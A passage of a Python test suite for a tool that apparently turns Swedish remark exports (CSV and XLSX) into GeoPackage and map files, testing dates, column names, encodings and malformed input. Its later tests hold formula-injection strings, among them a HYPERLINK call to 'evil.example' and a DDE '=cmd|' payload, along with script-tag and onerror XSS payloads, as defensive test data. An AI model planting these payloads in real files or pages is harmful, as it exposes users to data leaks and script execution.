@case(ok(stamps({"A1": "2025-06-01 14:30", "A2": "2025-06-02 09:05", "A3": "2025-06-03 23:59"})))
def tid_with_swedish_dot(c: Ctx) -> Setup:
    # Swedish writes "kl. 14.30"; a separate tid column with a dot.
    return dated(c, ["2025-06-01", "2025-06-02", "2025-06-03"], tid=["14.30", "9.05", "23:59"])


@case(
    ok(
        dates({"A1": None, "A2": "2025-06-01", "A3": None}),
        warned(r"(?=.*a\.csv)(?=.*2025-13-01)(?=.*\b(rows?|rad|rader)\b)"),
    )
)
def invalid_month_2025_13_01(c: Ctx) -> Setup:
    # Invalid dates: a warning naming file, row and value; the remark keeps no timestamp
    # (2025-13-01 became 13 January; 2025-02-29 does not exist).
    return dated(c, ["2025-13-01", "2025-06-01", "2025-02-29"])


# The issue allows "decided per column (all rows one way) or refused": 12/13 can only be
# month-first, so the column reads month-first; refusing it (warning, no timestamps, or an error
# naming the column) is accepted too. Reading 06/01 day-first and 12/13 month-first is not.
@case(
    one_of(
        ok(dates({"A1": "2025-06-01", "A2": "2025-12-13", "A3": "2025-07-04"})),
        ok(dates({"A1": None, "A2": None, "A3": None}), warned(r"datum")),
        error(1, r"a\.csv.*datum"),
    )
)
def slash_dates_ambiguous_per_column(c: Ctx) -> Setup:
    return dated(c, ["06/01/2025", "12/13/2025", "07/04/2025"])


@case(ok(dates({"A1": "2025-06-01", "A2": "2025-06-13", "A3": "2025-12-24"})))
def slash_dates_day_first_column(c: Ctx) -> Setup:
    return dated(c, ["01/06/2025", "13/06/2025", "24/12/2025"])


@case(ok(dates({"A1": "2025-06-01", "A2": "2025-12-24", "A3": "2025-03-03"})))
def swedish_d_slash_m_yyyy(c: Ctx) -> Setup:
    return dated(c, ["1/6 2025", "24/12 2025", "3/3 2025"])


@case(ok(dates({"A1": "2025-06-01", "A2": "2025-12-24", "A3": "2025-03-03"})))
def swedish_month_names(c: Ctx) -> Setup:
    return dated(c, ["1 juni 2025", "24 december 2025", "3 mars 2025"])


@case(ok(dates({"A1": "2025-10-15", "A2": "2025-05-02", "A3": "2025-02-07"})))
def swedish_month_abbreviations(c: Ctx) -> Setup:
    return dated(c, ["15 okt 2025", "2 maj 2025", "7 feb. 2025"])


@case(ok(stamps({"A1": "2025-06-01 00:00", "A2": "2025-06-01 12:00", "A3": "2025-01-01 00:00"})))
def excel_serials_in_csv(c: Ctx) -> Setup:
    # 45809 = 2025-06-01 in Excel's 1900 system; ,5 = noon.
    return dated(c, ["45809", "45809,5", "45658"])


@case(
    ok(stamps({"A1": "2025-06-01 00:00", "A2": "2025-06-01 18:00", "A3": "2025-01-01 00:00"})),
    xlsx=True,
)
def excel_serials_in_xlsx(c: Ctx) -> Setup:
    rows = table_rows(decimal=".")
    body = [
        [r[0], s, *r[2:4], float(r[4]), float(r[5])]
        for r, s in zip(rows[1:], [45809, 45809.75, 45658], strict=True)
    ]
    return Setup([c.xlsx("a.xlsx", [rows[0], *body])], rows=3)


@case(
    ok(stamps({"A1": "2025-06-01 14:30", "A2": "2025-12-24 00:00", "A3": "2025-03-30 03:15"})),
    xlsx=True,
)
def xlsx_datetime_cells(c: Ctx) -> Setup:
    import datetime as dt

    rows = table_rows(decimal=".")
    when = [
        dt.datetime(2025, 6, 1, 14, 30),
        dt.datetime(2025, 12, 24),
        dt.datetime(2025, 3, 30, 3, 15),
    ]
    body = [
        [r[0], w, *r[2:4], float(r[4]), float(r[5])] for r, w in zip(rows[1:], when, strict=True)
    ]
    return Setup([c.xlsx("a.xlsx", [rows[0], *body])], rows=3)


@case(ok(stamps({"A1": "2025-06-01 14:30", "A2": "2025-06-02 08:00"})))
def xlsx_date_and_time_cells(c: Ctx) -> Setup:
    import datetime as dt

    header = ["arendenr", "datum", "tid", "kategori", "E", "N"]
    rows = [
        header,
        ["A1", dt.date(2025, 6, 1), dt.time(14, 30), "Klotter", *SPOT["kommun"]],
        ["A2", dt.date(2025, 6, 2), dt.time(8, 0), "Klotter", *SPOT["huge"]],
    ]
    return Setup([c.xlsx("a.xlsx", rows)], rows=2)


@case(ok(dates({"A1": "2025-06-01", "A2": "2025-12-24", "A3": "2025-03-03"})))
def iso_basic_compact_dates(c: Ctx) -> Setup:
    return dated(c, ["20250601", "20251224", "20250303"])


# dd.mm.yyyy (Finnish, Norwegian, German exports) is not among the issue's Swedish forms:
# reading it day-first or a warning naming the value (the remark then has no timestamp) is right.
@case(
    one_of(
        ok(dates({"A1": "2025-06-01", "A2": "2025-12-24", "A3": "2025-03-03"})),
        ok(dates({"A1": None}), warned(r"(?=.*a\.csv)(?=.*01\.06\.2025)")),
    )
)
def dotted_day_first_dates(c: Ctx) -> Setup:
    return dated(c, ["01.06.2025", "24.12.2025", "3.3.2025"])


@case(ok(stamps({"A3": "2025-03-30 03:30"}), dates({"A2": "2025-10-26"})), xlsx=True)
def dst_gap_and_repeated_hour(c: Ctx) -> Setup:
    # 02:30 does not exist on 30 March and happens twice on 26 October in Stockholm.
    return dated(c, ["2025-03-30 02:30", "2025-10-26 02:30", "2025-03-30 03:30"])


@case(ok(dates({"A3": "2025-06-01"})), xlsx=True)
def out_of_range_years(c: Ctx) -> Setup:
    # Years 1 and 9999 fit neither pandas' nanoseconds nor a plausible remark: kept or dropped
    # with a warning, but the run goes on.
    return dated(c, ["0001-01-01", "9999-12-31 23:59", "2025-06-01"])


@case(ok(dates({"A1": None, "A2": None, "A3": "2025-06-01"}), warned(r"(?=.*a\.csv)(?=.*igår)")))
def text_that_is_not_a_date(c: Ctx) -> Setup:
    return dated(c, ["igår", "", "2025-06-01"])


@case(ok(dates({"A1": None, "A2": None, "A3": None})))
def date_column_all_empty(c: Ctx) -> Setup:
    return dated(c, ["", "", ""])


@case(ok(stamps({"A1": "2025-06-01 14:30", "A2": "2025-06-01 23:59"})))
def iso_with_fractional_seconds(c: Ctx) -> Setup:
    return dated(c, ["2025-06-01T14:30:59.999", "2025-06-01 23:59:00.000001"])


# ============================================================================================
# C. Column names: collisions with geomap's own, duplicates, empty, long, NFD
# ============================================================================================


@case(ok(STANDARD, warned(r"\bfid\b"), kept_values(["7", "7", "9"])))
def fid_column_lower_case(c: Ctx) -> Setup:
    # QGIS exports carry a fid column; GeoPackage wants unique integer fids, these repeat.
    return csv_case(c, table_rows(columns={"fid": ["7", "7", "9"]}))


@case(ok(STANDARD, warned(r"\bfid\b"), kept_values(["1", "2", "3"])))
def fid_column_upper_case(c: Ctx) -> Setup:
    rows = table_rows()
    return csv_case(c, [["FID", *rows[0]], *([str(i), *r] for i, r in enumerate(rows[1:], 1))])


@case(ok(STANDARD, warned(r"\bfid\b"), kept_values(["a", "b", "c"])))
def fid_column_with_text(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"fid": ["a", "b", "c"]}))


@case(ok(STANDARD, kept_values(["x-ägare"] * 3), kept_values(["y-ägare"] * 3)))
def owner_and_input_owner_columns(c: Ctx) -> Setup:
    # `owner` is a geomap column (kept as input_owner), and the input already has input_owner.
    return csv_case(
        c, table_rows(columns={"owner": ["x-ägare"] * 3, "input_owner": ["y-ägare"] * 3})
    )


@case(
    ok(
        STANDARD,
        methods({"A1": "ownership", "A2": "ownership", "A3": "ownership"}),
        kept_values(["manuell"] * 3),
        kept_values(["hand"] * 3),
    )
)
def input_columns_named_like_routing_columns(c: Ctx) -> Setup:
    return csv_case(
        c,
        table_rows(
            columns={"route_method": ["manuell"] * 3, "flags": ["hand"] * 3, "reason": ["x"] * 3}
        ),
    )


@case(ok(STANDARD, kept_values(["POINT (0 0)"] * 3)))
def input_column_named_geometry(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"geometry": ["POINT (0 0)"] * 3}))


@case(ok(STANDARD, routed({("a.csv", 1): "kommun"}), kept_values(["x.csv"] * 3)))
def input_columns_named_source_file_and_row(c: Ctx) -> Setup:
    # source_file/source_row must still say where each remark came from.
    return csv_case(c, table_rows(columns={"source_file": ["x.csv"] * 3, "source_row": ["9"] * 3}))


@case(ok(routed({"R1": "kommun", "R2": "huge", "R3": "privat"})))
def input_column_named_remark_id(c: Ctx) -> Setup:
    rows = table_rows(columns={"remark_id": ["R1", "R2", "R3"]}, drop=["arendenr"])
    return csv_case(c, rows)


@case(
    ok(
        STANDARD,
        values("description", {"A1": "anmärkning nummer 1"}),
        kept_values(["andra text"] * 3),
    )
)
def duplicate_column_names(c: Ctx) -> Setup:
    rows = table_rows()
    return csv_case(c, [[*rows[0], "beskrivning"], *([*r, "andra text"] for r in rows[1:])])


@case(ok(STANDARD, kept_values(["tomt namn"] * 3)))
def empty_column_names(c: Ctx) -> Setup:
    rows = table_rows()
    return csv_case(c, [[*rows[0], "", ""], *([*r, "tomt namn", ""] for r in rows[1:])])


@case(ok(STANDARD, kept_values(["blanka"] * 3)))
def column_names_of_only_spaces(c: Ctx) -> Setup:
    rows = table_rows()
    return csv_case(c, [[*rows[0], "   ", "\u00a0"], *([*r, "blanka", "nbsp"] for r in rows[1:])])


@case(ok(STANDARD, kept_values(["lång kolumn"] * 3)))
def column_name_over_255_characters(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"kolumn_" + "x" * 293: ["lång kolumn"] * 3}))


def _nfd(text: str) -> str:
    import unicodedata

    return unicodedata.normalize("NFD", text)


@case(
    ok(
        values("category", {"A1": "klotter", "A2": "skadegorelse"}),
        values("action", {"A1": "sanera"}),
        values("description", {"A2": "krossad ruta"}),
    )
)
def swedish_column_names_in_nfd(c: Ctx) -> Setup:
    # macOS writes decomposed å/ä/ö (NFD): "Händelsetyp", "Anmärkning", "Önskad åtgärd".
    header = [_nfd(h) for h in ["Ärendenr", "Händelsetyp", "Anmärkning", "Önskad åtgärd", "E", "N"]]
    rows = [
        header,
        ["A1", "Klotter", "tags", "sanera", num(SPOT["kommun"][0]), num(SPOT["kommun"][1])],
        [
            "A2",
            _nfd("Skadegörelse"),
            "krossad ruta",
            "laga",
            num(SPOT["huge"][0]),
            num(SPOT["huge"][1]),
        ],
    ]
    return csv_case(c, rows)


@case(
    ok(
        STANDARD,
        values("category", {"A1": "klotter"}),
        values("description", {"A2": "anmärkning nummer 2"}),
    )
)
def upper_case_and_padded_column_names(c: Ctx) -> Setup:
    rows = table_rows()
    return csv_case(c, [[f"  {h.upper()} " for h in rows[0]], *rows[1:]])


@case(ok(values("action", {"A1": "sanera"})))
def quoted_newline_in_column_name(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"Önskad\nåtgärd": ["sanera", "laga", "städa"]}))


@case(ok(STANDARD))
def numeric_column_names(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"1": ["a"] * 3, "2": ["b"] * 3}))


@case(ok(STANDARD))
def rows_shorter_than_header(c: Ctx) -> Setup:
    rows = table_rows(columns={"extra": ["x", "", ""]})
    text = csv_text(rows).replace(";\r\n", "\r\n")  # rows 2 and 3 lack the last field
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=3)


# More than 2,000 columns gave a traceback. A GeoPackage table holds at most 2,000 columns, so a
# correct result keeps the model columns and drops or packs the others with a warning; the issue
# also accepts a one-line error naming the file and the column count.
@case(one_of(ok(STANDARD, warned(r"column|kolumn")), error(1, r"a\.csv.*(column|kolumn)")))
def more_than_2000_columns(c: Ctx) -> Setup:
    extra = {f"extra_{i:04d}": ["v"] * 3 for i in range(2100)}
    return csv_case(c, table_rows(columns=extra))


@case(ok(STANDARD, unique_ids({"A1": "A1"})))
def double_bom(c: Ctx) -> Setup:
    # Two exports concatenated by a script: the header starts with two BOMs.
    return Setup(
        [c.bytes("a.csv", b"\xef\xbb\xbf" + csv_text(table_rows()).encode("utf-8-sig"))], rows=3
    )


# ============================================================================================
# D. CSV dialects: delimiters, decimals, quoting, line ends, encodings, empty files
# ============================================================================================


@case(ok(STANDARD))
def comma_delimiter_decimal_point(c: Ctx) -> Setup:
    return csv_case(c, table_rows(decimal="."), delimiter=",", encoding="utf-8")


@case(ok(STANDARD))
def tab_delimiter(c: Ctx) -> Setup:
    return csv_case(c, table_rows(decimal="."), delimiter="\t")


@case(ok(STANDARD, values("description", {"A1": "anmärkning nummer 1"})))
def semicolon_delimiter_decimal_comma(c: Ctx) -> Setup:
    return csv_case(c, table_rows())


@case(ok(STANDARD))
def pipe_delimiter(c: Ctx) -> Setup:
    return csv_case(c, table_rows(decimal="."), delimiter="|")


@case(
    ok(
        STANDARD,
        values("description", {"A1": "rad ett\nrad två; med semikolon", "A2": 'citat "inne" här'}),
    ),
    xlsx=True,
)
def quoted_fields_with_newlines_and_delimiters(c: Ctx) -> Setup:
    texts = ["rad ett\nrad två; med semikolon", 'citat "inne" här', "\r\nbörjar med radbrytning"]
    return csv_case(c, table_rows(columns={"beskrivning": texts}))


@case(ok(STANDARD, values("description", {"A1": "a, b, c", "A2": "d, e"})))
def commas_in_text_of_a_semicolon_file(c: Ctx) -> Setup:
    # The delimiter sniffer must not pick ',' because the texts hold many commas.
    texts = ["a, b, c", "d, e", "f, g, h, i, j"]
    return csv_case(c, table_rows(columns={"beskrivning": texts}))


@case(ok(STANDARD))
def line_ends_lf(c: Ctx) -> Setup:
    return csv_case(c, table_rows(), eol="\n")


@case(ok(STANDARD))
def line_ends_crlf(c: Ctx) -> Setup:
    return csv_case(c, table_rows(), eol="\r\n")


@case(ok(STANDARD))
def line_ends_cr_only(c: Ctx) -> Setup:
    # Old Mac Excel.
    return csv_case(c, table_rows(), eol="\r")


@case(ok(STANDARD))
def line_ends_mixed(c: Ctx) -> Setup:
    lines = csv_text(table_rows(), eol="\n").splitlines()
    text = lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n"
    return Setup([c.text("a.csv", text)], rows=3)


@case(ok(STANDARD, values("description", {"A1": "anmärkning nummer 1"})))
def excel_sep_hint_line(c: Ctx) -> Setup:
    # Excel writes and honours a first line "sep=;".
    return Setup([c.text("a.csv", "sep=;\r\n" + csv_text(table_rows()))], rows=3)


# An unquoted delimiter inside a text field shifted the columns and made the description the id.
# A correct result joins the text back (the id and coordinates stay right); a one-line error
# naming the file and the row is accepted too.
@case(
    one_of(
        ok(STANDARD, contains("description", {"A1": ["tags", "mycket"]})),
        error(1, r"a\.csv.*\b(row|rad)\b"),
    )
)
def unquoted_delimiter_in_text_every_row(c: Ctx) -> Setup:
    rows = table_rows()
    text = csv_text(rows).replace("anmärkning nummer 1", "tags; mycket")
    for i in (2, 3):
        text = text.replace(f"anmärkning nummer {i}", f"text {i}; mer")
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=3)


@case(
    one_of(
        ok(
            STANDARD,
            contains("description", {"A2": ["krossad", "glas"]}),
            values("description", {"A1": "anmärkning nummer 1"}),
        ),
        error(1, r"a\.csv.*\b(row|rad)\b.*2|a\.csv.*\b2\b.*\b(row|rad)\b"),
    )
)
def unquoted_delimiter_in_text_one_row(c: Ctx) -> Setup:
    text = csv_text(table_rows()).replace("anmärkning nummer 2", "krossad ruta; glas överallt")
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=3)


@case(
    one_of(
        ok(STANDARD, contains("description", {"A1": ['"tags på vägg']})),
        error(1, r"a\.csv.*\b(row|rad|quote|citat)"),
    )
)
def unbalanced_quote_swallows_rows(c: Ctx) -> Setup:
    # A field that opens a quote and never closes it must not swallow the rest of the file.
    text = csv_text(table_rows()).replace("anmärkning nummer 1", '"tags på vägg')
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=3)


@case(ok(STANDARD, values("description", {"A1": 'tags "på" vägg'})))
def stray_quotes_inside_unquoted_field(c: Ctx) -> Setup:
    text = csv_text(table_rows()).replace("anmärkning nummer 1", 'tags "på" vägg')
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=3)


@case(
    ok(
        STANDARD,
        values("description", {"A1": "Trasig gunga vid förskolan"}),
        values("category", {"A2": "skadegorelse"}),
    )
)
def encoding_cp1252(c: Ctx) -> Setup:
    rows = table_rows(
        columns={"beskrivning": ["Trasig gunga vid förskolan", "Skåp – sönder", "Öde"]}
    )
    return csv_case(c, rows, encoding="cp1252")


@case(ok(STANDARD, values("description", {"A1": "Trasig gunga vid förskolan"})))
def encoding_utf8_without_bom(c: Ctx) -> Setup:
    rows = table_rows(columns={"beskrivning": ["Trasig gunga vid förskolan", "b", "c"]})
    return csv_case(c, rows, encoding="utf-8")


# Excel's "Unicode text" is UTF-16 LE with BOM and tabs. The README names UTF-8 and cp1252 only,
# so reading it correctly or a one-line error that names the encoding are both right.
@case(
    one_of(
        ok(STANDARD, values("description", {"A1": "Trasig gunga vid förskolan"})),
        error(1, r"a\.txt.*(UTF-16|encoding|teckenkod)"),
    )
)
def encoding_utf16_tab_excel_unicode_text(c: Ctx) -> Setup:
    rows = table_rows(
        decimal=",", columns={"beskrivning": ["Trasig gunga vid förskolan", "b", "c"]}
    )
    return csv_case(c, rows, name="a.txt", delimiter="\t", encoding="utf-16")


@case(one_of(ok(STANDARD), error(1, r"a\.csv.*(UTF-16|encoding|teckenkod)")))
def encoding_utf16_be_without_bom(c: Ctx) -> Setup:
    return csv_case(c, table_rows(), encoding="utf-16-be")


# Two exports pasted together: a cp1252 part and a UTF-8 part. Decoding each part right, or at
# least a warning that the file mixes encodings, is expected; silent mojibake ("fÃ¶rskolan") is not.
@case(
    one_of(
        ok(STANDARD, values("description", {"A2": "Trasig gunga vid förskolan"})),
        ok(STANDARD, warned(r"a\.csv.*(encoding|teckenkod|UTF-8|cp1252)")),
    )
)
def mixed_utf8_and_cp1252_lines(c: Ctx) -> Setup:
    lines = csv_text(
        table_rows(columns={"beskrivning": ["Öde plats", "Trasig gunga vid förskolan", "ok"]})
    ).split("\r\n")
    data = ("\r\n".join(lines[:2]) + "\r\n").encode("cp1252") + ("\r\n".join(lines[2:])).encode(
        "utf-8"
    )
    return Setup([c.bytes("a.csv", data)], rows=3)


@case(error(1, r"empty\.csv.*(empty|tom)"))
def empty_file(c: Ctx) -> Setup:
    return Setup([c.bytes("empty.csv", b"")])


@case(error(1, r"header\.csv.*(no rows|header|rubrik)"))
def header_only(c: Ctx) -> Setup:
    return Setup([c.text("header.csv", "arendenr;datum;kategori;beskrivning;E;N\r\n")])


@case(error(1, r"bom\.csv.*(empty|tom)"))
def bom_only(c: Ctx) -> Setup:
    return Setup([c.bytes("bom.csv", b"\xef\xbb\xbf")])


@case(error(1, r"blank\.csv.*(empty|tom)"))
def only_whitespace(c: Ctx) -> Setup:
    return Setup([c.text("blank.csv", "   \r\n\t\r\n  \n\n")])


@case(error(1, r"header2\.csv.*(no rows|header|rubrik)"))
def header_then_blank_lines(c: Ctx) -> Setup:
    return Setup([c.text("header2.csv", "arendenr;E;N\r\n\r\n\r\n   \r\n")])


@case(error(1, r"garbage\.csv"))
def binary_garbage_with_csv_suffix(c: Ctx) -> Setup:
    data = bytes(np.random.default_rng(7).integers(0, 256, 4000, dtype=np.uint8))
    return Setup([c.bytes("garbage.csv", data)])


@case(error(1, r"excel\.csv.*(xlsx|Excel|binary|binär|not a|inte)"))
def xlsx_saved_with_csv_suffix(c: Ctx) -> Setup:
    # A user "saves as CSV" by renaming. A one-line error naming the file is what helps.
    path = c.xlsx("tmp.xlsx", table_rows(decimal="."))
    target = c.path("excel.csv")
    path.rename(target)
    return Setup([target])


# Rows whose every cell is empty (Excel leaves them after deleted rows) are not remarks.
@case(ok(routed({"A1": "kommun", "A2": "huge"})))
def trailing_empty_rows_and_columns(c: Ctx) -> Setup:
    rows = table_rows(2)
    text = csv_text([[*r, ""] for r in rows]) + ";;;;;;\r\n;;;;;;\r\n"
    return Setup([c.text("a.csv", text, encoding="utf-8-sig")], rows=2)


@case(ok(STANDARD, values("description", {"A1": "flikar\tinne"})))
def tabs_inside_fields_of_semicolon_file(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"beskrivning": ["flikar\tinne", "b\tc", "d"]}))


@case(
    ok(STANDARD, values("description", {"A1": "💥 tags 𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "A2": "\u202eevil\u202c text"})),
    xlsx=True,
)
def astral_and_bidi_characters(c: Ctx) -> Setup:
    texts = ["💥 tags 𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\u202eevil\u202c text", "zero\u200bwidth"]
    return csv_case(c, table_rows(columns={"beskrivning": texts}))


@case(error(1, r"spaces\.csv.*(one column|en kolumn|delimiter)"))
def space_separated_file(c: Ctx) -> Setup:
    return Setup([c.text("spaces.csv", "id lat lon\n1 59.2 17.9\n")])


# ============================================================================================
# E. XLSX inputs
# ============================================================================================


def xlsx_rows(n: int = 3, **columns: Sequence[Any]) -> list[list[Any]]:
    """The standard table with numeric coordinates, as Excel holds it."""
    rows = table_rows(n, decimal=".", columns=dict(columns))
    e, nn = rows[0].index("E"), rows[0].index("N")
    return [
        rows[0],
        *([*(float(v) if i in (e, nn) else v for i, v in enumerate(r))] for r in rows[1:]),
    ]


@case(ok(STANDARD, values("description", {"A3": "anmärkning nummer 3"})))
def xlsx_plain(c: Ctx) -> Setup:
    return Setup([c.xlsx("a.xlsx", xlsx_rows())], rows=3)


@case(
    ok(
        STANDARD,
        values("category", {"A1": "klotter", "A2": "klotter", "A3": "klotter"}),
        values("place", {"A3": "Torget"}),
    )
)
def xlsx_merged_cells(c: Ctx) -> Setup:
    # Category and place merged over three rows: every row of the merge has the value.
    rows = xlsx_rows(kategori=["Klotter", None, None], plats=["Torget", None, None])
    col = {name: chr(ord("A") + i) for i, name in enumerate(rows[0])}
    merges = [f"{col['kategori']}2:{col['kategori']}4", f"{col['plats']}2:{col['plats']}4"]
    return Setup([c.xlsx("a.xlsx", rows, merges=merges)], rows=3)


# A report export: two title rows above the header. Finding the header or a one-line error
# that says no coordinate columns were found (naming the file) are both acceptable.
@case(one_of(ok(STANDARD), error(1, r"a\.xlsx.*(coordinate|koordinat|header|rubrik)")))
def xlsx_title_rows_above_header(c: Ctx) -> Setup:
    rows = [["Lägesbild vecka 47"], [], *xlsx_rows()]
    return Setup([c.xlsx("a.xlsx", rows, merges=["A1:F1"])], rows=3)


@case(ok(routed({"D1": "huge", "D2": "privat"})))
def xlsx_data_on_second_sheet_with_layer(c: Ctx) -> Setup:
    data = xlsx_rows(
        2,
        arendenr=["D1", "D2"],
        E=[SPOT["huge"][0], SPOT["privat"][0]],
        N=[SPOT["huge"][1], SPOT["privat"][1]],
    )
    path = c.xlsx(
        "a.xlsx", [["Info"], ["Exporterad 2025-11-20"]], sheet="Info", sheets={"Data": data}
    )
    return Setup([path], rows=2, args=["--layer", "Data"])


@case(error(1, r"a\.xlsx.*Nope"))
def xlsx_missing_sheet(c: Ctx) -> Setup:
    return Setup([c.xlsx("a.xlsx", xlsx_rows())], args=["--layer", "Nope"])


@case(ok(routed({"1": "kommun", "2": "huge", "3": "privat"})))
def xlsx_numeric_ids(c: Ctx) -> Setup:
    # Ids 1, 2, 3 stay "1", "2", "3" (not "1.0").
    return Setup([c.xlsx("a.xlsx", xlsx_rows(arendenr=[1, 2, 3]))], rows=3)


@case(error(1, r"a\.xlsx.*(no rows|header|rubrik)"))
def xlsx_header_only(c: Ctx) -> Setup:
    return Setup([c.xlsx("a.xlsx", xlsx_rows()[:1])])


@case(error(1, r"empty\.xlsx"))
def xlsx_empty_workbook(c: Ctx) -> Setup:
    return Setup([c.xlsx("empty.xlsx", [])])


@case(ok(STANDARD))
def xlsx_formula_cells_without_cached_values(c: Ctx) -> Setup:
    # openpyxl writes formulas without cached results, as a script-made workbook has.
    return Setup(
        [c.xlsx("a.xlsx", xlsx_rows(beskrivning=["=1+1", '=CONCAT("a";"b")', "text"]))], rows=3
    )


@case(ok(STANDARD))
def xlsx_coordinates_as_text_with_decimal_comma(c: Ctx) -> Setup:
    rows = table_rows()  # coordinates as text "150050,00"
    return Setup([c.xlsx("a.xlsx", rows)], rows=3)


@case(error(1, r"fake\.xlsx.*(xlsx|workbook|Excel|arbetsbok)"))
def zip_renamed_xlsx(c: Ctx) -> Setup:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.csv", csv_text(table_rows()))
    return Setup([c.bytes("fake.xlsx", buffer.getvalue())])


@case(error(1, r"text\.xlsx.*(xlsx|workbook|Excel|arbetsbok)"))
def csv_text_renamed_xlsx(c: Ctx) -> Setup:
    return Setup([c.text("text.xlsx", csv_text(table_rows()))])


@case(ok(STANDARD, values("description", {"A2": "Trasig gunga"})))
def xlsx_with_hidden_and_empty_columns(c: Ctx) -> Setup:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    rows = xlsx_rows(beskrivning=["a", "Trasig gunga", "c"])
    for row in rows:
        sheet.append([None, *row, None, None])  # an empty first column, empty columns after
    sheet.column_dimensions["C"].hidden = True
    path = c.path("a.xlsx")
    book.save(path)
    return Setup([path], rows=3)


# ============================================================================================
# F. Text cells: control characters, over-long cells, formula injection, markup
# ============================================================================================


def control_case(c: Ctx, char: str) -> Setup:
    texts = [f"före{char}efter", "vanlig", f"{char}början"]
    return csv_case(c, table_rows(columns={"beskrivning": texts}))


@case(
    ok(
        STANDARD,
        values("description", {"A1": "före\x0befter"}),
        xlsx_opens_and_clean("kommun", ["före"]),
    ),
    xlsx=True,
)
def control_character_vt(c: Ctx) -> Setup:
    return control_case(c, "\x0b")


@case(
    ok(
        STANDARD,
        values("description", {"A1": "före\x0cefter"}),
        xlsx_opens_and_clean("kommun", ["före"]),
    ),
    xlsx=True,
)
def control_character_ff(c: Ctx) -> Setup:
    return control_case(c, "\x0c")


@case(
    ok(
        STANDARD,
        values("description", {"A1": "före\x1befter"}),
        xlsx_opens_and_clean("kommun", ["före"]),
    ),
    xlsx=True,
)
def control_character_esc(c: Ctx) -> Setup:
    return control_case(c, "\x1b")


# NUL cannot pass through GDAL's C strings, so the GeoPackage keeps the text around it.
@case(
    ok(
        STANDARD,
        contains("description", {"A1": ["före"]}),
        xlsx_opens_and_clean("kommun", ["före"]),
    ),
    xlsx=True,
)
def control_character_nul(c: Ctx) -> Setup:
    return control_case(c, "\x00")


@case(
    ok(
        routed({"A\x1b1": "kommun"}),
        xlsx_opens_and_clean("kommun", ["A"]),
        xlsx_opens_and_clean("huge", ["Torg"]),
    ),
    xlsx=True,
)
def control_characters_in_id_category_and_place(c: Ctx) -> Setup:
    rows = table_rows(
        columns={
            "arendenr": ["A\x1b1", "A2", "A3"],
            "kategori": ["Klot\x07ter", "Skade\x0bgörelse", "x"],
            "plats": ["P\x01", "Torg\x1f", "x"],
        }
    )
    return csv_case(c, rows)


LONG_140K = "början " + "a" * 139_990 + " slut"
LONG_40K = "början " + "b" * 39_990 + " slut"


@case(
    ok(
        STANDARD,
        text_length("A1", "description", len(LONG_140K)),
        xlsx_cell_limit("kommun", "början"),
        warned(r"32[\s,.\u00a0']?767|truncat|\bcut\b|kortad|klipp"),
    ),
    xlsx=True,
)
def cell_over_131072_characters(c: Ctx) -> Setup:
    # Python's csv module refuses fields over 131,072 characters by default.
    return csv_case(c, table_rows(columns={"beskrivning": [LONG_140K, "b", "c"]}))


@case(
    ok(
        STANDARD,
        text_length("A1", "description", len(LONG_40K)),
        xlsx_cell_limit("kommun", "början"),
        warned(r"32[\s,.\u00a0']?767|truncat|\bcut\b|kortad|klipp"),
    ),
    xlsx=True,
)
def cell_over_32767_characters(c: Ctx) -> Setup:
    return csv_case(c, table_rows(columns={"beskrivning": [LONG_40K, "b", "c"]}))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"Klicka")',
    "+1",
    "@SUM(A1:A2)",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "＝1+1",
]


@case(
    ok(lists_neutralise(FORMULAS), values("description", {"A1": FORMULAS[0], "A3": FORMULAS[2]})),
    xlsx=True,
)
def formula_injection_in_descriptions(c: Ctx) -> Setup:
    n = len(FORMULAS)
    return csv_case(c, table_rows(n, columns={"beskrivning": FORMULAS}))


@case(ok(lists_neutralise(["=1+1", "+46 8 123", "@kommun", "-x"])), xlsx=True)
def formula_injection_in_id_category_place_action(c: Ctx) -> Setup:
    rows = table_rows(
        columns={
            "arendenr": ["=1+1", "A2", "A3"],
            "kategori": ["+46 8 123", "Klotter", "Klotter"],
            "plats": ["@kommun", "x", "y"],
            "önskad åtgärd": ["-x", "a", "b"],
        }
    )
    return csv_case(c, rows)


@case(ok(lists_neutralise([])), xlsx=True)
def formula_in_input_file_name(c: Ctx) -> Setup:
    return Setup([c.csv("=cmd()+1.csv")], rows=3)


MARKUP = [
    '<script>alert("hostile")</script>',
    "<img src=x onerror=alert(1)>",
    "</script><b>fet</b> & mer",
]


@case(ok(maps_escape(MARKUP), values("description", {"A1": MARKUP[0]})), xlsx=True)
def html_and_script_in_descriptions(c: Ctx) -> Setup:
    setup = csv_case(c, table_rows(columns={"beskrivning": MARKUP}))
    setup.maps = True
    return setup


@case(ok(maps_escape(["<script>alert('kat')</script>", "<svg onload=alert(2)>"])), xlsx=True)
def html_in_category_and_place(c: Ctx) -> Setup:
    rows = table_rows(
        columns={
            "kategori": ["<script>alert('kat')</script>", "Klotter", "x"],
            "plats": ["<svg onload=alert(2)>", "a", "b"],
        }
    )
    setup = csv_case(c, rows)
    setup.maps = True
    return setup


@case(
    ok(
        maps_escape(["<script>alert('ägare')</script>"]),
        values("owner_name", {"A2": "<script>alert('ägare')</script>"}),
    ),
    xlsx=True,
)
def html_in_registry_owner_name(c: Ctx) -> Setup:
    registry = REGISTRY_TOML.replace(
        'name = "Huge Bostäder AB"', "name = \"<script>alert('ägare')</script>\""
    )
    return Setup([c.csv("a.csv")], rows=3, maps=True, args=["--registry", c.registry(registry)])


@case(ok(STANDARD, values("description", {"A1": None})))
def description_of_only_whitespace(c: Ctx) -> Setup:
